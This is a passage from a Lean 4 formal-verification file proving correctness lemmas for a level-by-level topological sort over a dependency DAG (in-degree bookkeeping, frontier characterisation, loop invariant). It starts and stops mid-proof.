  (∀ p ∈ s.Nodes, ∀ b ∈ p.2.Blocks, b ∈ s.Nodes.map Prod.fst) ∧
  (∀ p ∈ s.Nodes, ∀ q ∈ s.Nodes, p.2.DependsOn.count q.1 = q.2.Blocks.count p.1) ∧
  (∀ p ∈ s.Nodes, ∀ b ∈ p.2.Blocks, hasPath s b p.1 = false)

theorem find?_key_of_mem {β : Type} (l : List (String × β))
    (hnd : (l.map Prod.fst).Nodup) (v : String) (n : β) (hm : (v, n) ∈ l) :
    l.find? (fun p => p.1 == v) = some (v, n) := by
  induction l with
  | nil => cases hm
  | cons p t ih =>
    simp only [List.map_cons, List.nodup_cons] at hnd
    rcases List.mem_cons.mp hm with h | h
    · rw [← h]
      simp [List.find?_cons]
    · have hp1 : (p.1 == v) = false := by
        cases hpv : (p.1 == v)
        · rfl
        · exfalso
          have h2 : p.1 = v := by simpa using hpv
          exact hnd.1 (h2 ▸ (List.mem_map.mpr ⟨(v, n), h, rfl⟩))
      rw [List.find?_cons, hp1]
      exact ih hnd.2 h

theorem findNode_eq_some_of_mem (s : DAGState)
    (hnd : (s.Nodes.map Prod.fst).Nodup) (v : String) (n : Node)
    (hm : (v, n) ∈ s.Nodes) : findNode s v = some n := by
  unfold findNode
  rw [find?_key_of_mem s.Nodes hnd v n hm]
  rfl

theorem mem_of_findNode_eq_some (s : DAGState) (v : String) (n : Node)
    (hf : findNode s v = some n) : (v, n) ∈ s.Nodes := by
  unfold findNode at hf
  rcases Option.map_eq_some'.mp hf with ⟨p, hfind, hp2⟩
  have h1 : p.1 = v := by simpa using List.find?_some hfind
  have := List.mem_of_find?_eq_some hfind
  rwa [show p = (v, n) from Prod.ext h1 hp2] at this

theorem find?_key_isSome {β : Type} (l : List (String × β)) (v : String) :
    (l.find? (fun p => p.1 == v)).isSome = true ↔ v ∈ l.map Prod.fst := by
  induction l with
  | nil => simp
  | cons q t ih =>
    rw [List.find?_cons]
    cases hq : (q.1 == v)
    · simp only [List.map_cons, List.mem_cons]
      rw [ih]
      constructor
      · exact Or.inr
      · rintro (he | ht)
        · exfalso
          rw [he] at hq
          simp at hq
        · exact ht
    · have h1 : q.1 = v := by simpa using hq
      simp [h1]

theorem findNode_isSome_iff (s : DAGState) (v : String) :
    (findNode s v).isSome = true ↔ v ∈ keysOf s := by
  unfold findNode keysOf
  rw [Option.isSome_map']
  exact find?_key_isSome s.Nodes v

theorem getDeg_decDeg (m : List (String × Int)) (b v : String) :
    getDeg (decDeg m b) v = if v = b then getDeg m v - 1 else getDeg m v := by
  unfold decDeg
  cases hfb : (m.find? (fun p => p.1 == b)).isSome
  · rw [if_neg (by simp [hfb])]
    unfold getDeg
    rw [List.find?_append]
    cases hfv : m.find? (fun p => p.1 == v) with
    | some p =>
      by_cases hvb : v = b
      · exfalso
        subst hvb
        rw [hfv] at hfb
        simp at hfb
      · simp [hvb]
    | none =>
      by_cases hvb : v = b
      · subst hvb
        rw [hfv] at hfb
        simp
      · simp [hvb, Ne.symm hvb]
  · rw [if_pos (by simp [hfb])]
    unfold getDeg
    rw [find?_map_keyfix]
    · cases hfv : m.find? (fun p => p.1 == v) with
      | some p =>
        have h1 : p.1 = v := by simpa using List.find?_some hfv
        by_cases hvb : v = b <;> simp [h1, hvb]
      | none =>
        by_cases hvb : v = b
        · subst hvb
          rw [hfv] at hfb
          simp at hfb
        · simp [hvb]
    · intro p
      by_cases h : p.1 = b <;> simp [h]

theorem decDeg_keys (m : List (String × Int)) (b : String)
    (hb : (m.find? (fun p => p.1 == b)).isSome = true) :
    (decDeg m b).map Prod.fst = m.map Prod.fst := by
  unfold decDeg
  rw [if_pos hb, List.map_map]
  apply List.map_congr_left
  intro p _
  by_cases h : p.1 = b <;> simp [h]

/-- Remaining in-degree from `done`: occurrences of unprocessed deps. -/
def remDeg (s : DAGState) (done : List String) (v : String) : Nat :=
  ((depsD s v).filter (fun d => decide (d ∉ done))).length

theorem stepDec_eq (m : List (String × Int)) (q : List String) (b : String) :
    stepDec (m, q) b = if getDeg (decDeg m b) b == 0
      then (decDeg m b, q ++ [b]) else (decDeg m b, q) := rfl

theorem getDeg_decDeg_self (m : List (String × Int)) (b : String) :
    getDeg (decDeg m b) b = getDeg m b - 1 := by
  rw [getDeg_decDeg, if_pos rfl]

theorem stepDec_fold_deg (events : List String) (m : List (String × Int))
    (q : List String) (v : String) :
    getDeg (events.foldl stepDec (m, q)).1 v
      = getDeg m v - (events.count v : Int) := by
  induction events generalizing m q with
  | nil => simp
  | cons e rest ih =>
    rw [List.foldl_cons, stepDec_eq]
    by_cases hz : getDeg (decDeg m e) e == 0 <;>
      [rw [if_pos hz]; rw [if_neg hz]] <;>
      · rw [ih, getDeg_decDeg]
        by_cases hve : v = e
        · subst hve
          rw [if_pos rfl, List.count_cons_self]
          push_cast
          ring
        · rw [if_neg hve, List.count_cons_of_ne hve]

theorem stepDec_fold_keys (events : List String) (m : List (String × Int))
    (q : List String) (h : ∀ b ∈ events, b ∈ m.map Prod.fst) :
    ((events.foldl stepDec (m, q)).1).map Prod.fst = m.map Prod.fst := by
  induction events generalizing m q with
  | nil => rfl
  | cons e rest ih =>
    rw [List.foldl_cons, stepDec_eq]
    have hkeys : (decDeg m e).map Prod.fst = m.map Prod.fst := by
      apply decDeg_keys
      rw [find?_key_isSome]
      exact h e (List.mem_cons_self e rest)
    have hrest : ∀ b ∈ rest, b ∈ (decDeg m e).map Prod.fst := by
      intro b hb
      rw [hkeys]
      exact h b (List.mem_cons_of_mem e hb)
    by_cases hz : getDeg (decDeg m e) e == 0 <;>
      [rw [if_pos hz]; rw [if_neg hz]] <;>
      rw [ih _ _ hrest, hkeys]

theorem stepDec_fold_count (events : List String) (m : List (String × Int))
    (q : List String) (v : String) :
    ((events.foldl stepDec (m, q)).2).count v
      = q.count v
        + (if 1 ≤ getDeg m v ∧ getDeg m v ≤ (events.count v : Int)
           then 1 else 0) := by
  induction events generalizing m q with
  | nil =>
    dsimp only [List.foldl_nil]
    rw [if_neg (by simp only [List.count_nil, Nat.cast_zero]; omega)]
    rfl
  | cons e rest ih =>
    rw [List.foldl_cons, stepDec_eq, getDeg_decDeg_self]
    by_cases hz : getDeg m e - 1 = 0
    · rw [if_pos (by simpa using hz), ih, getDeg_decDeg]
      by_cases hve : v = e
      · subst hve
        rw [if_pos rfl, List.count_cons_self, List.count_append,
          List.count_singleton,
          if_neg (show ¬(1 ≤ getDeg m v - 1 ∧
            getDeg m v - 1 ≤ (List.count v rest : Int)) by omega),
          if_pos (show 1 ≤ getDeg m v ∧
            getDeg m v ≤ ((List.count v rest + 1 : Nat) : Int) by omega)]
        simp
      · rw [if_neg hve, List.count_cons_of_ne hve, List.count_append,
          List.count_eq_zero.mpr (show v ∉ [e] by simpa using hve)]
        omega
    · rw [if_neg (by simpa using hz), ih, getDeg_decDeg]
      by_cases hve : v = e
      · subst hve
        rw [if_pos rfl, List.count_cons_self]
        by_cases hC : 1 ≤ getDeg m v - 1 ∧ getDeg m v - 1 ≤ (List.count v rest : Int)
        · rw [if_pos hC, if_pos (show 1 ≤ getDeg m v ∧
            getDeg m v ≤ ((List.count v rest + 1 : Nat) : Int) by omega)]
        · rw [if_neg hC, if_neg (show ¬(1 ≤ getDeg m v ∧
            getDeg m v ≤ ((List.count v rest + 1 : Nat) : Int)) by omega)]
      · rw [if_neg hve, List.count_cons_of_ne hve]

theorem filter_mem_cons_length (l : List String) (d : String) (rest : List String)
    (hd : d ∉ rest) :
    (l.filter (fun x => decide (x ∈ d :: rest))).length
      = l.count d + (l.filter (fun x => decide (x ∈ rest))).length := by
  induction l with
  | nil => simp
  | cons a t ih =>
    by_cases had : a = d
    · subst had
      rw [List.filter_cons_of_pos (by simp),
        List.filter_cons_of_neg (by simpa using hd),
        List.count_cons_self]
      simp only [List.length_cons]
      omega
    · rw [List.count_cons_of_ne (fun h => had h.symm)]
      by_cases har : a ∈ rest
      · rw [List.filter_cons_of_pos (by simp [har]),
          List.filter_cons_of_pos (by simpa using har)]
        simp only [List.length_cons]
        omega
      · rw [List.filter_cons_of_neg (by simp [had, har]),
          List.filter_cons_of_neg (by simpa using har)]
        exact ih

theorem count_events (s : DAGState)
    (wfc : ∀ v d, (depsD s v).count d = (blocksD s d).count v)
    (queue : List String) (hnd : queue.Nodup) (v : String) :
    ((queue.map (blocksD s)).flatten).count v
      = ((depsD s v).filter (fun d => decide (d ∈ queue))).length := by
  induction queue with
  | nil => simp
  | cons d rest ih =>
    rw [List.nodup_cons] at hnd
    rw [List.map_cons, List.flatten_cons, List.count_append, ih hnd.2,
      filter_mem_cons_length _ _ _ hnd.1, ← wfc v d]

theorem filter_not_append_length (l done q : List String)
    (hdisj : ∀ x ∈ q, x ∉ done) :
    (l.filter (fun d => decide (d ∉ done))).length
      = (l.filter (fun d => decide (d ∉ done ++ q))).length
        + (l.filter (fun d => decide (d ∈ q))).length := by
  induction l with
  | nil => rfl
  | cons a t ih =>
    by_cases haq : a ∈ q
    · have had : a ∉ done := hdisj a haq
      rw [List.filter_cons_of_pos (by simpa using had),
        List.filter_cons_of_neg (by simp [haq]),
        List.filter_cons_of_pos (by simpa using haq)]
      simp only [List.length_cons]
      omega
    · by_cases had : a ∈ done
      · rw [List.filter_cons_of_neg (by simpa using had),
          List.filter_cons_of_neg (by simp [had]),
          List.filter_cons_of_neg (by simpa using haq)]
        exact ih
      · rw [List.filter_cons_of_pos (by simpa using had),
          List.filter_cons_of_pos (by simp [had, haq]),
          List.filter_cons_of_neg (by simpa using haq)]
        simp only [List.length_cons]
        omega

theorem depsD_eq (s : DAGState) (v : String) (n : Node)
    (h : findNode s v = some n) : depsD s v = n.DependsOn := by
  unfold depsD
  rw [h]
  rfl

theorem depsD_none (s : DAGState) (v : String)
    (h : findNode s v = none) : depsD s v = [] := by
  unfold depsD
  rw [h]
  rfl

theorem blocksD_eq (s : DAGState) (v : String) (n : Node)
    (h : findNode s v = some n) : blocksD s v = n.Blocks := by
  unfold blocksD
  rw [h]
  rfl

theorem blocksD_none (s : DAGState) (v : String)
    (h : findNode s v = none) : blocksD s v = [] := by
  unfold blocksD
  rw [h]
  rfl

theorem TopoWF_depsClosed (s : DAGState) (wf : TopoWF s) (v : String) :
    ∀ d ∈ depsD s v, d ∈ keysOf s := by
  intro d hd
  cases hf : findNode s v with
  | none => rw [depsD_none s v hf] at hd; cases hd
  | some n =>
    rw [depsD_eq s v n hf] at hd
    exact wf.2.2.1 (v, n) (mem_of_findNode_eq_some s v n hf) d hd

theorem TopoWF_blocksClosed (s : DAGState) (wf : TopoWF s) (v : String) :
    ∀ b ∈ blocksD s v, b ∈ keysOf s := by
  intro b hb
  cases hf : findNode s v with
  | none => rw [blocksD_none s v hf] at hb; cases hb
  | some n =>
    rw [blocksD_eq s v n hf] at hb
    exact wf.2.2.2.1 (v, n) (mem_of_findNode_eq_some s v n hf) b hb

theorem TopoWF_count (s : DAGState) (wf : TopoWF s) (v d : String) :
    (depsD s v).count d = (blocksD s d).count v := by
  cases hfv : findNode s v with
  | none =>
    rw [depsD_none s v hfv, List.count_nil]
    cases hfd : findNode s d with
    | none => rw [blocksD_none s d hfd, List.count_nil]
    | some nd =>
      rw [blocksD_eq s d nd hfd]
      refine (List.count_eq_zero.mpr ?_).symm
      intro hmem
      have hk : v ∈ keysOf s :=
        TopoWF_blocksClosed s wf d v (by rw [blocksD_eq s d nd hfd]; exact hmem)
      have := (findNode_isSome_iff s v).mpr hk
      rw [hfv] at this
      cases this
  | some nv =>
    rw [depsD_eq s v nv hfv]
    cases hfd : findNode s d with
    | none =>
      rw [blocksD_none s d hfd, List.count_nil]
      refine List.count_eq_zero.mpr ?_
      intro hmem
      have hk : d ∈ keysOf s :=
        TopoWF_depsClosed s wf v d (by rw [depsD_eq s v nv hfv]; exact hmem)
      have := (findNode_isSome_iff s d).mpr hk
      rw [hfd] at this
      cases this
    | some nd =>
      rw [blocksD_eq s d nd hfd]
      exact wf.2.2.2.2.1 (v, nv) (mem_of_findNode_eq_some s v nv hfv)
        (d, nd) (mem_of_findNode_eq_some s d nd hfd)

theorem TopoWF_acyclic (s : DAGState) (wf : TopoWF s) (v : String) :
    ¬ Relation.TransGen (edgeB s) v v := by
  intro h
  rcases Relation.TransGen.head'_iff.mp h with ⟨w, hedge, hrest⟩
  rcases hedge with ⟨nv, hfv, hwb⟩
  have hfalse : hasPath s w v = false :=
    wf.2.2.2.2.2 (v, nv) (mem_of_findNode_eq_some s v nv hfv) w hwb
  have htrue : hasPath s w v = true :=
    (hasPath_iff_Reach s w v).mpr hrest
  rw [hfalse] at htrue
  cases htrue

theorem blocksD_updLevel (st : DAGState) (id : String) (lvl : Int) (v : String) :
    blocksD (updNode st id (fun n => { n with Level := lvl })) v = blocksD st v := by
  unfold blocksD
  rw [findNode_updNode]
  by_cases hv : v = id
  · rw [if_pos hv]
    cases findNode st v <;> simp
  · rw [if_neg hv]

theorem idCoh_updLevel (st : DAGState) (id : String) (lvl : Int)
    (h : ∀ p ∈ st.Nodes, p.2.ID = p.1) :
    ∀ p ∈ (updNode st id (fun n => { n with Level := lvl })).Nodes,
      p.2.ID = p.1 := by
  intro p hp
  unfold updNode at hp
  rcases List.mem_map.mp hp with ⟨q, hq, hqp⟩
  by_cases h1 : q.1 = id
  · rw [← hqp, if_pos (by simp [h1])]
    exact h q hq
  · rw [← hqp, if_neg (by simp [h1])]
    exact h q hq

theorem topoVisit_eq (lvl : Int) (st : DAGState) (inDeg : List (String × Int))
    (nq : List String) (ln : List Node) (pr : Nat) (id : String) (node : Node)
    (hnode : findNode st id = some node) :
    topoVisit lvl ⟨st, inDeg, nq, ln, pr⟩ id =
      ⟨updNode st id (fun n => { n with Level := lvl }),
       (node.Blocks.foldl stepDec (inDeg, nq)).1,
       (node.Blocks.foldl stepDec (inDeg, nq)).2,
       ln ++ [{ node with Level := lvl }],
       pr + 1⟩ := by
  unfold topoVisit
  rw [hnode]

theorem topoVisit_fold (s : DAGState) (lvl : Int) (queue : List String)
    (st : DAGState) (inDeg : List (String × Int)) (nq : List String)
    (ln : List Node) (pr : Nat)
    (hkeys : keysOf st = keysOf s)
    (hblocks : ∀ v, blocksD st v = blocksD s v)
    (hid : ∀ p ∈ st.Nodes, p.2.ID = p.1)
    (hq : ∀ v ∈ queue, v ∈ keysOf s) :
    ((queue.foldl (topoVisit lvl) ⟨st, inDeg, nq, ln, pr⟩).inDeg,
     (queue.foldl (topoVisit lvl) ⟨st, inDeg, nq, ln, pr⟩).nextQ)
      = ((queue.map (blocksD s)).flatten).foldl stepDec (inDeg, nq)
    ∧ (queue.foldl (topoVisit lvl) ⟨st, inDeg, nq, ln, pr⟩).levNodes.map Node.ID
      = ln.map Node.ID ++ queue
    ∧ (queue.foldl (topoVisit lvl) ⟨st, inDeg, nq, ln, pr⟩).processed
      = pr + queue.length
    ∧ keysOf (queue.foldl (topoVisit lvl) ⟨st, inDeg, nq, ln, pr⟩).st = keysOf s
    ∧ (∀ v, blocksD (queue.foldl (topoVisit lvl) ⟨st, inDeg, nq, ln, pr⟩).st v
        = blocksD s v)
    ∧ (∀ p ∈ (queue.foldl (topoVisit lvl) ⟨st, inDeg, nq, ln, pr⟩).st.Nodes,
        p.2.ID = p.1) := by
  induction queue generalizing st inDeg nq ln pr with
  | nil => exact ⟨rfl, by simp, rfl, hkeys, hblocks, hid⟩
  | cons id rest ih =>
    have hidk : id ∈ keysOf st := by
      rw [hkeys]
      exact hq id (List.mem_cons_self id rest)
    rcases Option.isSome_iff_exists.mp ((findNode_isSome_iff st id).mpr hidk)
      with ⟨node, hnode⟩
    have hrest : ∀ v ∈ rest, v ∈ keysOf s :=
      fun v hv => hq v (List.mem_cons_of_mem id hv)
    rw [List.foldl_cons, topoVisit_eq lvl st inDeg nq ln pr id node hnode]
    have hkeys' : keysOf (updNode st id (fun n => { n with Level := lvl }))
        = keysOf s := by
      unfold keysOf
      rw [updNode_keys]
      exact hkeys
    have hblocks' : ∀ v,
        blocksD (updNode st id (fun n => { n with Level := lvl })) v
          = blocksD s v :=
      fun v => (blocksD_updLevel st id lvl v).trans (hblocks v)
    have hid' := idCoh_updLevel st id lvl hid
    have hnid : node.ID = id := hid (id, node) (mem_of_findNode_eq_some st id node hnode)
    rcases ih (updNode st id (fun n => { n with Level := lvl }))
        (node.Blocks.foldl stepDec (inDeg, nq)).1
        (node.Blocks.foldl stepDec (inDeg, nq)).2
        (ln ++ [{ node with Level := lvl }]) (pr + 1)
        hkeys' hblocks' hid' hrest with ⟨h1, h2, h3, h4, h5, h6⟩
    refine ⟨?_, ?_, ?_, h4, h5, h6⟩
    · rw [h1, List.map_cons, List.flatten_cons, List.foldl_append]
      have hb : node.Blocks = blocksD s id := by
        rw [← hblocks id, blocksD_eq st id node hnode]
      rw [← hb, Prod.mk.eta]
    · rw [h2, List.map_append]
      simp [hnid]
    · rw [h3, List.length_cons]
      omega

theorem doneUpTo_zero (levels : List ParallelLevel) : doneUpTo levels 0 = [] := rfl

theorem doneUpTo_full (levels : List ParallelLevel) (k : Nat)
    (hk : levels.length ≤ k) : doneUpTo levels k = doneAll levels := by
  unfold doneUpTo doneAll
  rw [List.take_of_length_le hk]

theorem doneUpTo_succ (levels : List ParallelLevel) (k : Nat)
    (hk : k < levels.length) :
    doneUpTo levels (k + 1) = doneUpTo levels k ++ levelIDsAt levels k := by
  unfold doneUpTo levelIDsAt
  rw [List.take_succ, List.map_append, List.flatten_append]
  congr 1
  rw [List.get?_eq_getElem?, List.getElem?_eq_getElem hk]
  simp

theorem mem_doneUpTo (levels : List ParallelLevel) (k : Nat)
    (hk : k ≤ levels.length) (v : String) :
    v ∈ doneUpTo levels k ↔ ∃ j, j < k ∧ v ∈ levelIDsAt levels j := by
  induction k with
  | zero => simp [doneUpTo]
  | succ k ih =>
    rw [doneUpTo_succ levels k (by omega), List.mem_append, ih (by omega)]
    constructor
    · rintro (⟨j, hj, hv⟩ | hv)
      · exact ⟨j, by omega, hv⟩
      · exact ⟨k, by omega, hv⟩
    · rintro ⟨j, hj, hv⟩
      by_cases hjk : j = k
      · right
        exact hjk ▸ hv
      · left
        exact ⟨j, by omega, hv⟩

theorem doneUpTo_mono (levels : List ParallelLevel) (j k : Nat) (hjk : j ≤ k)
    (hk : k ≤ levels.length) (v : String) (hv : v ∈ doneUpTo levels j) :
    v ∈ doneUpTo levels k := by
  rw [mem_doneUpTo levels j (by omega) v] at hv
  rcases hv with ⟨j2, hj2, hv⟩
  exact (mem_doneUpTo levels k hk v).mpr ⟨j2, by omega, hv⟩

theorem doneUpTo_append_le (levels : List ParallelLevel) (x : ParallelLevel)
    (k : Nat) (hk : k ≤ levels.length) :
    doneUpTo (levels ++ [x]) k = doneUpTo levels k := by
  unfold doneUpTo
  rw [List.take_append_of_le_length hk]

theorem levelIDsAt_append_lt (levels : List ParallelLevel) (x : ParallelLevel)
    (k : Nat) (hk : k < levels.length) :
    levelIDsAt (levels ++ [x]) k = levelIDsAt levels k := by
  unfold levelIDsAt
  rw [List.get?_eq_getElem?, List.get?_eq_getElem?,
    List.getElem?_append_left hk]

theorem levelIDsAt_append_self (levels : List ParallelLevel)
    (x : ParallelLevel) :
    levelIDsAt (levels ++ [x]) levels.length = levelIDs x := by
  unfold levelIDsAt
  rw [List.get?_eq_getElem?, List.getElem?_append_right (by omega)]
  simp

theorem doneAll_append (levels : List ParallelLevel) (x : ParallelLevel) :
    doneAll (levels ++ [x]) = doneAll levels ++ levelIDs x := by
  unfold doneAll
  rw [List.map_append, List.flatten_append]
  simp

theorem disjoint_level_prefix (levels : List ParallelLevel)
    (hN : (doneAll levels).Nodup) (k : Nat) (hk : k < levels.length) :
    ∀ a ∈ levelIDsAt levels k, a ∉ doneUpTo levels k := by
  have hsplit : doneAll levels
      = doneUpTo levels (k + 1) ++ ((levels.drop (k + 1)).map levelIDs).flatten := by
    unfold doneAll doneUpTo
    conv_lhs => rw [← List.take_append_drop (k + 1) levels]
    rw [List.map_append, List.flatten_append]
  rw [hsplit] at hN
  have h1 : (doneUpTo levels (k + 1)).Nodup := hN.of_append_left
  rw [doneUpTo_succ levels k hk] at h1
  rcases List.nodup_append.mp h1 with ⟨_, _, hdisj⟩
  intro a ha hcontra
  exact hdisj hcontra ha

theorem remDeg_eq_zero_iff (s : DAGState) (D : List String) (v : String) :
    remDeg s D v = 0 ↔ ∀ d ∈ depsD s v, d ∈ D := by
  unfold remDeg
  rw [List.length_eq_zero, List.filter_eq_nil]
  constructor
  · intro h d hd
    have := h d hd
    simpa using this
  · intro h d hd
    simpa using h d hd

theorem remDeg_pos_key (s : DAGState) (D : List String) (v : String)
    (h : 1 ≤ remDeg s D v) : v ∈ keysOf s := by
  cases hf : findNode s v with
  | some n =>
    exact (findNode_isSome_iff s v).mp (by rw [hf]; rfl)
  | none =>
    exfalso
    unfold remDeg at h
    rw [depsD_none s v hf] at h
    simp at h

theorem remDeg_split (s : DAGState) (D Q : List String) (v : String)
    (hdisj : ∀ x ∈ Q, x ∉ D) :
    remDeg s D v = remDeg s (D ++ Q) v
      + ((depsD s v).filter (fun d => decide (d ∈ Q))).length := by
  unfold remDeg
  exact filter_not_append_length (depsD s v) D Q hdisj

theorem frontier_iff (s : DAGState) (D Q : List String)
    (hdisj : ∀ x ∈ Q, x ∉ D)
    (hDclosed : ∀ v ∈ D, ∀ d ∈ depsD s v, d ∈ D)
    (hQ : ∀ v, v ∈ Q ↔ (v ∈ keysOf s ∧ v ∉ D ∧ ∀ d ∈ depsD s v, d ∈ D))
    (v : String) :
    (1 ≤ (remDeg s D v : Int) ∧ (remDeg s D v : Int)
        ≤ (((depsD s v).filter (fun d => decide (d ∈ Q))).length : Int))
      ↔ (v ∈ keysOf s ∧ v ∉ (D ++ Q) ∧ ∀ d ∈ depsD s v, d ∈ D ++ Q) := by
  have hsplit := remDeg_split s D Q v hdisj
  constructor
  · rintro ⟨h1, h2⟩
    have h1n : 1 ≤ remDeg s D v := by exact_mod_cast h1
    have h2n : remDeg s D v
        ≤ ((depsD s v).filter (fun d => decide (d ∈ Q))).length := by
      exact_mod_cast h2
    have hz : remDeg s (D ++ Q) v = 0 := by omega
    refine ⟨remDeg_pos_key s D v h1n, ?_,
      (remDeg_eq_zero_iff s (D ++ Q) v).mp hz⟩
    intro hmem
    rcases List.mem_append.mp hmem with hd | hq
    · have h0 : remDeg s D v = 0 :=
        (remDeg_eq_zero_iff s D v).mpr (hDclosed v hd)
      omega
    · have h0 : remDeg s D v = 0 :=
        (remDeg_eq_zero_iff s D v).mpr ((hQ v).mp hq).2.2
      omega
  · rintro ⟨hk, hnm, hsub⟩
    have hz : remDeg s (D ++ Q) v = 0 :=
      (remDeg_eq_zero_iff s (D ++ Q) v).mpr hsub
    have hpos : 1 ≤ remDeg s D v := by
      rcases Nat.eq_zero_or_pos (remDeg s D v) with h0 | hp
      · exfalso
        have hsubD := (remDeg_eq_zero_iff s D v).mp h0
        have hvD : v ∉ D := fun hd => hnm (List.mem_append_left Q hd)
        exact hnm (List.mem_append_right D ((hQ v).mpr ⟨hk, hvD, hsubD⟩))
      · exact hp
    constructor
    · exact_mod_cast hpos
    · have heq : remDeg s D v
          = ((depsD s v).filter (fun d => decide (d ∈ Q))).length := by omega
      exact_mod_cast Nat.le_of_eq heq

/-- Invariant of the outer queue loop of `TopoLevels` over the original
state `s`: the working state only differs in `Level` fields, the in-degree
map tracks the unprocessed dependency occurrences, the queue is exactly the
current frontier, processed counts the placed ids, and every placed level
is exactly the frontier of the ids placed before it. -/
structure LoopInv (s st : DAGState) (inDeg : List (String × Int))
    (queue : List String) (levels : List ParallelLevel)
    (processed : Nat) : Prop where
  hkeys : keysOf st = keysOf s
  hblocks : ∀ v, blocksD st v = blocksD s v
  hid : ∀ p ∈ st.Nodes, p.2.ID = p.1
  hdom : inDeg.map Prod.fst = s.Nodes.map Prod.fst
  hdeg : ∀ v, getDeg inDeg v = (remDeg s (doneAll levels) v : Int)
  hnodup : (doneAll levels ++ queue).Nodup
  hdone_sub : ∀ v ∈ doneAll levels, v ∈ keysOf s
  hdone_closed : ∀ v ∈ doneAll levels, ∀ d ∈ depsD s v, d ∈ doneAll levels
  hqueue : ∀ v, v ∈ queue ↔
    (v ∈ keysOf s ∧ v ∉ doneAll levels ∧ ∀ d ∈ depsD s v, d ∈ doneAll levels)
  hproc : processed = (doneAll levels).length
  hlev : ∀ k, k < levels.length → ∀ v,
    v ∈ levelIDsAt levels k ↔
      (v ∈ keysOf s ∧ v ∉ doneUpTo levels k ∧
        ∀ d ∈ depsD s v, d ∈ doneUpTo levels k)

theorem round_inv (s : DAGState) (wf : TopoWF s) (st : DAGState)
    (inDeg : List (String × Int)) (Q : List String)
    (levels : List ParallelLevel) (processed : Nat)
    (inv : LoopInv s st inDeg Q levels processed) :
    LoopInv s
      (Q.foldl (topoVisit (levels.length : Int)) ⟨st, inDeg, [], [], processed⟩).st
      (Q.foldl (topoVisit (levels.length : Int)) ⟨st, inDeg, [], [], processed⟩).inDeg
      (Q.foldl (topoVisit (levels.length : Int)) ⟨st, inDeg, [], [], processed⟩).nextQ
      (levels ++ [{ Level := (levels.length : Int), Nodes := (Q.foldl (topoVisit (levels.length : Int)) ⟨st, inDeg, [], [], processed⟩).levNodes }])
      (Q.foldl (topoVisit (levels.length : Int)) ⟨st, inDeg, [], [], processed⟩).processed
    ∧ doneAll (levels ++ [{ Level := (levels.length : Int), Nodes := (Q.foldl (topoVisit (levels.length : Int)) ⟨st, inDeg, [], [], processed⟩).levNodes }])
      = doneAll levels ++ Q := by
  have hQkeys : ∀ v ∈ Q, v ∈ keysOf s := fun v hv => ((inv.hqueue v).mp hv).1
  rcases topoVisit_fold s (levels.length : Int) Q st inDeg [] [] processed
    inv.hkeys inv.hblocks inv.hid hQkeys with ⟨h1, h2, h3, h4, h5, h6⟩
  set acc := Q.foldl (topoVisit (levels.length : Int))
    ⟨st, inDeg, [], [], processed⟩ with hacc
  set E := (Q.map (blocksD s)).flatten with hE
  rcases List.nodup_append.mp inv.hnodup with ⟨hndD, hndQ, hdisjDQ⟩
  have hdisjQD : ∀ x ∈ Q, x ∉ doneAll levels := fun x hx hd => hdisjDQ hd hx
  have hids : acc.levNodes.map Node.ID = Q := by simpa using h2
  have hD' : doneAll (levels ++ [{ Level := (levels.length : Int), Nodes := acc.levNodes }]) = doneAll levels ++ Q := by
    rw [doneAll_append]
    show doneAll levels ++ acc.levNodes.map Node.ID = doneAll levels ++ Q
    rw [hids]
  have hiDeg : acc.inDeg = (E.foldl stepDec (inDeg, [])).1 := congrArg Prod.fst h1
  have hiQ : acc.nextQ = (E.foldl stepDec (inDeg, [])).2 := congrArg Prod.snd h1
  have hev : ∀ b ∈ E, b ∈ inDeg.map Prod.fst := by
    intro b hb
    rcases List.mem_flatten.mp hb with ⟨l, hl, hbl⟩
    rcases List.mem_map.mp hl with ⟨d, hd, hdl⟩
    rw [inv.hdom]
    exact TopoWF_blocksClosed s wf d b (hdl.symm ▸ hbl)
  have hcnt := fun v => count_events s (TopoWF_count s wf) Q hndQ v
  have hdeg' : ∀ v, getDeg acc.inDeg v
      = (remDeg s (doneAll levels ++ Q) v : Int) := by
    intro v
    rw [hiDeg, stepDec_fold_deg, inv.hdeg v, hcnt v,
      remDeg_split s (doneAll levels) Q v hdisjQD]
    push_cast
    ring
  have hcount : ∀ v, acc.nextQ.count v
      = if 1 ≤ (remDeg s (doneAll levels) v : Int)
          ∧ (remDeg s (doneAll levels) v : Int)
            ≤ (((depsD s v).filter (fun d => decide (d ∈ Q))).length : Int)
        then 1 else 0 := by
    intro v
    rw [hiQ, stepDec_fold_count, List.count_nil, inv.hdeg v, hcnt v,
      Nat.zero_add]
  have hmem : ∀ v, v ∈ acc.nextQ ↔
      (v ∈ keysOf s ∧ v ∉ (doneAll levels ++ Q)
        ∧ ∀ d ∈ depsD s v, d ∈ doneAll levels ++ Q) := by
    intro v
    rw [← frontier_iff s (doneAll levels) Q hdisjQD inv.hdone_closed
      inv.hqueue v]
    have hcv := hcount v
    by_cases hc : 1 ≤ (remDeg s (doneAll levels) v : Int)
        ∧ (remDeg s (doneAll levels) v : Int)
          ≤ (((depsD s v).filter (fun d => decide (d ∈ Q))).length : Int)
    · rw [if_pos hc] at hcv
      constructor
      · intro _
        exact hc
      · intro _
        by_contra hnm
        rw [List.count_eq_zero.mpr hnm] at hcv
        cases hcv
    · rw [if_neg hc] at hcv
      constructor
      · intro hv
        exact absurd hv (List.count_eq_zero.mp hcv)
      · intro hfc
        exact absurd hfc hc
  have hndN : acc.nextQ.Nodup := by
    rw [List.nodup_iff_count_le_one]
    intro a
    rw [hcount a]
    split <;> omega
  have hnodup' : ((doneAll levels ++ Q) ++ acc.nextQ).Nodup := by
    rw [List.nodup_append]
    refine ⟨inv.hnodup, hndN, ?_⟩
    intro a haD haN
    exact ((hmem a).mp haN).2.1 haD
  refine ⟨⟨h4, h5, h6, ?_, ?_, ?_, ?_, ?_, ?_, ?_, ?_⟩, hD'⟩
  · rw [hiDeg, stepDec_fold_keys E inDeg [] hev, inv.hdom]
  · intro v
    rw [hD']
    exact hdeg' v
  · rw [hD']
    exact hnodup'
  · rw [hD']
    intro v hv
    rcases List.mem_append.mp hv with h | h
    · exact inv.hdone_sub v h
    · exact hQkeys v h
  · rw [hD']
    intro v hv d hd
    rcases List.mem_append.mp hv with h | h
    · exact List.mem_append_left Q (inv.hdone_closed v h d hd)
    · exact List.mem_append_left Q (((inv.hqueue v).mp h).2.2 d hd)
  · intro v
    rw [hD']
    exact hmem v
  · rw [h3, hD', List.length_append, inv.hproc]
  · intro k hk v
    rw [List.length_append, List.length_singleton] at hk
    by_cases hkl : k < levels.length
